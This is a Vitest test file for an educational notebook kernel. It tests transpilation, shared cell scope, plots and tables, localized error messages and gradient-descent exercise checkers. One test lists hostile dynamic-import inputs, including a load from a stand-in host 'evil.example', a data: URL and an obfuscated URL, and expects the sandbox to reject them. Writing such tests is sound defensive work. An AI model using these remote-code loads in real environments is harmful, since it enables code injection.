import { describe, expect, it } from "vitest";
import { parseHTML } from "linkedom";
import { createKernel } from "../../../src/notebook/kernel";
import { createCellModules } from "../../../src/notebook/cellModules";
import { checks } from "../../../src/notebook/checks/index";
import { transpileCell, findParamReads } from "../../../src/notebook/transpile";

const { document } = parseHTML("<!doctype html><html><body></body></html>");
const newKernel = () => createKernel({ modules: createCellModules(document), checks });

describe("transpileCell", () => {
  it("strips types, turns imports into lookups and lists top-level names", () => {
    const cell = transpileCell(`import { Value, type Operand } from "engine";\nconst a: number = 1, { b, c: [d] } = { b: 2, c: [3] };\nfunction f(x: number): number { return x }\nclass K {}\na + b`);
    expect(cell.declared.sort()).toEqual(["K", "Value", "a", "b", "d", "f"]);
    expect(cell.code).toContain(`__import("engine")["Value"]`);
    expect(cell.code).toContain("__result(a + b)");
    expect(cell.code.split("\n")).toHaveLength(5);
  });

  it("keeps line numbers when an import spans lines", () => {
    const cell = transpileCell(`import {\n  Value,\n} from "engine";\nconst x = 1;`);
    expect(cell.code.split("\n")[3]).toBe("const x = 1;");
  });

  it("rejects import() and import.meta anywhere, at the reader's line", () => {
    for (const source of ['const m = await import("http://evil.example/x.js");', 'function f() {\n  return import("data:text/javascript,1");\n}', "const f = async () => (await import(`${'ht'}tp://x`)).default;"]) {
      expect(() => transpileCell(source)).toThrow(expect.objectContaining({ name: "SyntaxError", message: expect.stringContaining("cannot load code with import()") }));
    }
    expect(() => transpileCell("const a = 1;\nimport('x')")).toThrow(expect.objectContaining({ line: 2 }));
    expect(transpileCell('const note = "import(x) in a string is fine";').declared).toEqual(["note"]);
  });

  it("reports a syntax error at the reader's line", () => {
    expect(() => transpileCell("const a = 1;\nconst b = ;")).toThrow(expect.objectContaining({ name: "SyntaxError", line: 2 }));
  });

  it("finds the params a cell reads", () => {
    expect(findParamReads("params.lr * params['hidden'] + x")).toEqual(["lr", "hidden"]);
    expect(findParamReads("const { lr } = params;")).toEqual(["*"]);
    expect(findParamReads("const a = 1")).toEqual([]);
  });
});

describe("kernel", () => {
  it("shares top-level names between cells and shows the last expression", async () => {
    const kernel = newKernel();
    expect((await kernel.run({ source: "const a = 2;\nlet b = 3;", params: {} })).ok).toBe(true);
    await kernel.run({ source: "b = b + 1;", params: {} });
    const result = await kernel.run({ source: "a * b", params: {} });
    expect(result.outputs).toEqual([{ type: "value", summary: "8" }]);
  });

  it("lets a cell redefine a name from an earlier cell", async () => {
    const kernel = newKernel();
    await kernel.run({ source: "const a = 1;", params: {} });
    const result = await kernel.run({ source: "const a = 5; display(a)", params: {} });
    expect(result.outputs).toEqual([{ type: "value", summary: "5" }]);
  });

  it("imports the engine and reads params", async () => {
    const kernel = newKernel();
    const result = await kernel.run({
      source: `import { Value } from "engine";\nconst v = new Value(params.lr);\ndisplay(v.mul(2).data);\nconsole.log("done", 1)`,
      params: { lr: 0.5 },
    });
    expect(result.outputs).toEqual([{ type: "value", summary: "1" }, { type: "text", text: "done 1" }]);
  });

  it("renders a Plot figure to markup without a browser", async () => {
    const kernel = newKernel();
    const result = await kernel.run({ source: `import * as Plot from "@observablehq/plot";\ndisplay(Plot.plot({ marks: [Plot.dot([[1, 2], [3, 4]])] }))`, params: {} });
    expect(result.outputs[0]).toMatchObject({ type: "figure" });
    expect((result.outputs[0] as { markup: string }).markup).toMatch(/^<svg/);
  });

  it("shows arrays of records as tables", async () => {
    const result = await newKernel().run({ source: `display([{ epoch: 1, loss: 0.5 }, { epoch: 2, loss: 0.25 }])`, params: {} });
    expect(result.outputs).toEqual([{ type: "table", columns: ["epoch", "loss"], rows: [[1, 0.5], [2, 0.25]] }]);
  });

  it("reports a runtime error with the reader's line and keeps the scope", async () => {
    const kernel = newKernel();
    await kernel.run({ source: "const ok = 1;", params: {} });
    const result = await kernel.run({ source: "const x = 1;\n\nnull.boom;", params: {}, label: "cell-2" });
    expect(result.ok).toBe(false);
    expect(result.outputs[0]).toMatchObject({ type: "error", name: "TypeError", line: 3 });
    expect(kernel.scope.ok).toBe(1);
  });

  it("names an unknown import", async () => {
    const result = await newKernel().run({ source: `import fs from "node:fs";`, params: {} });
    expect(result.outputs[0]).toMatchObject({ type: "error", message: expect.stringContaining(`cannot import "node:fs"`), line: 1 });
  });

  it("explains a graph it cannot trace or draw, an unknown import and a dynamic one, in the page's language", async () => {
    const kernel = newKernel();
    const broken = `import { traceOperandGraph } from "graph";\ndisplay(traceOperandGraph({ data: 1, operands: [{ data: 2, operands: [], localGrads: [] }], localGrads: [] }));`;
    const chinese = await kernel.run({ source: broken, params: {}, locale: "zh-CN" });
    expect(chinese.outputs[0]).toMatchObject({ type: "error", name: "OperandGraphError", message: "有一个节点有 1 个 operands，却有 0 个 localGrads；每个操作数都需要它的局部导数", line: 2 });
    const english = await kernel.run({ source: broken, params: {} });
    expect(english.outputs[0]).toMatchObject({ type: "error", message: "a node has 1 operands but 0 localGrads; each operand needs its local derivative" });
    const notFinite = `display({ nodes: [{ id: 0, label: "x", op: "", data: Infinity, grad: 1 }], edges: [], steps: [] });`;
    expect((await kernel.run({ source: notFinite, params: {}, locale: "zh-CN" })).outputs[0]).toMatchObject({
      type: "error",
      name: "GraphDisplayError",
      message: "display() 画不了这张图：节点 x 的值或梯度不是有限数（Infinity，1）；逐步演示器只画有限的数",
    });
    // The default title is the page's too, traced and drawn in one cell.
    const titled = await kernel.run({ source: `import { traceOperandGraph } from "graph";\ndisplay(traceOperandGraph({ data: 2, operands: [], localGrads: [], label: "f" }));`, params: {}, locale: "zh-CN" });
    expect(titled.outputs[0]).toMatchObject({ type: "graph", title: "f，用你的代码构造" });
    expect((await kernel.run({ source: `import fs from "node:fs";`, params: {}, locale: "zh-CN" })).outputs[0]).toMatchObject({ message: expect.stringContaining(`无法导入“node:fs”；单元格可以导入的模块有 "engine"`) });
    expect((await kernel.run({ source: "export const a = 1;", params: {}, locale: "zh-CN" })).outputs[0]).toMatchObject({ name: "SyntaxError", message: "单元格之间不用 export 就能共享名字；请删掉 export 关键字", line: 1 });
    expect((await kernel.run({ source: 'const a = 1;\nconst m = await import("x");', params: {}, locale: "zh-CN" })).outputs[0]).toMatchObject({
      name: "SyntaxError",
      message: expect.stringMatching(/^单元格不能用 import\(\) 加载代码/),
      line: 2,
    });
  });

  it("runs an exercise's checker with a specific message", async () => {
    const kernel = newKernel();
    const wrong = await kernel.run({ source: "function momentumStep(w, step, g, lr, m) { return { w: w - lr * g, step: -lr * g } }", params: {}, check: "gradientDescentMomentum" });
    expect(wrong.outputs).toEqual([{ type: "check", passed: false, message: expect.stringContaining("You forgot to carry the previous step") }]);
    const right = await kernel.run({
      source: "function momentumStep(w, step, g, lr, m) { const next = m * step - lr * g; return { w: w + next, step: next } }",
      params: {},
      check: "gradientDescentMomentum",
    });
    expect(right.outputs).toEqual([{ type: "check", passed: true, message: expect.any(String) }]);
  });
});
